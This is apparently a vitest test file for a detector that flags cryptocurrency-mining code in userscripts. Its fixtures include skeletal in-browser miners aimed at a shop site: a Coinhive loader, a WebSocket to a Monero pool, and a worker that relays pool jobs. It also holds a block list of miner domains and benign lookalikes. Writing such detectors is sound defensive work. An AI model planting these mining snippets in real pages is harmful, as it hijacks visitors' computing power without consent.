import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { miner } from "./miner.ts";

describe("miner", () => {
	test.each([
		[
			"a known library",
			["critical 4", "critical 6"],
			userscript(
				["match https://shop.example/*", "require https://coinhive.com/lib/coinhive.min.js"],
				`new CoinHive.Anonymous("key").start()`,
			),
		],
		[
			"a pool",
			["critical 5"],
			userscript(["match https://shop.example/*"], `const w=new WebSocket("wss://ws.supportxmr.com/");w.send("{}")`),
		],
		[
			"a miner by no name",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`const w=new Worker(URL.createObjectURL(new Blob(["let nonce=0;onmessage=e=>{for(;;){nonce++}}"])));
const s=new WebSocket("wss://pool.stranger.test/");
s.onmessage=e=>{const m=JSON.parse(e.data);w.postMessage({job:m.job,difficulty:m.difficulty,target:m.target})};
w.onmessage=e=>s.send(JSON.stringify({submit:e.data.nonce,wallet:"x",threads:4}))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(miner, code)).toEqual(expected);
	});

	test.each([
		[
			"a list of miners to block",
			userscript(
				["match https://shop.example/*"],
				`const blocked=["coinhive.com","crypto-loot.com","coinimp.com"];document.querySelectorAll("script").forEach(s=>{if(blocked.some(h=>s.src.includes(h)))s.remove()})`,
			),
		],
		[
			"a checksum in a worker",
			userscript(
				["match https://shop.example/*"],
				`const w=new Worker("/sha256.js");w.postMessage({blob:1});w.onmessage=e=>{document.title=e.data.hash}`,
			),
		],
		[
			"prices of currencies",
			userscript(
				["match https://shop.example/*"],
				`setInterval(()=>fetch("https://prices.stranger.test/monero").then(r=>r.json()).then(p=>{document.title=p.target}),60000)`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(miner, code)).toEqual([]);
	});
});
